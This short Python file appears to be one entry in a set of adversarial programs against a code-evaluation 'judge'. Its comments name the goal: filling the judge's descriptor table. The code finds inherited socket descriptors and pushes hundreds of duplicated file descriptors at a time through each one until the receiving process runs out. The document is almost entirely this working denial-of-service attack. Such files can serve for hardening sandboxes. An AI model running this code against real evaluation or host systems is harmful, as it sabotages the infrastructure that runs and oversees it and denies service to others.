# attack: Sends descriptors along with the bytes of its wire, thousands of them.
# hurts: Fills the judge's table of descriptors.
# ends: returns or crash or timeout
import contextlib
import os
import socket
import stat


def attack(target):
    null, sent = os.open("/dev/null", os.O_RDONLY), 0
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
            with socket.socket(fileno=os.dup(number)) as wire:
                wire.setblocking(False)
                for _ in range(50):
                    socket.send_fds(wire, [b"\0"], [null] * 200)
                    sent += 200
    return f"sent {sent}"
